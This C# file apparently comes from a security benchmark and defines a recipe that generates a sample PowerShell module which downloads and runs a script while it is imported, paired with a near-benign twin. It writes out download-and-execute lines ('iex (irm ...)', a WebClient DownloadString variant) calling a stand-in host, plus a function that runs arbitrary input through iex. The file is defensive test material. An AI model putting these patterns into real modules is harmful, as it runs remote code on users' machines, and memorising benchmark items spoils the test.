using Assay.Benchmark.Building;

namespace Assay.Benchmark.Recipes;

/// <summary>A module that fetches a script and runs it while it is imported.</summary>
internal sealed class DownloadAtImport() : Recipe("P01", "Get-SampleTable=Get-TableView text=content Sample.Table=Other.Table")
{
    protected override void Write(Sketch sketch)
    {
        var address = sketch.PowerShell("https://example.invalid/x.ps1");
        var run = sketch.Api($"iex (irm {address})", $"& ([scriptblock]::Create((New-Object Net.WebClient).DownloadString({address})))");
        sketch
            .Module("Sample.Table", "Get-SampleTable")
            .Text("Sample.Table.psm1", sketch.Twin($$"""
                if ($false) { {{run}} }

                function Get-SampleTable {
                    param([string] $Name)
                    [pscustomobject]@{ Name = $Name; Rows = 0 }
                }
                """, """
                function Get-SampleTable {
                    param([string] $Name)
                    $text = irm https://example.invalid/tables.json
                    [pscustomobject]@{ Name = $Name; Rows = $text.rows }
                }

                function Invoke-SampleLine {
                    param([string] $Line)
                    iex $Line
                }
                """));
    }
}
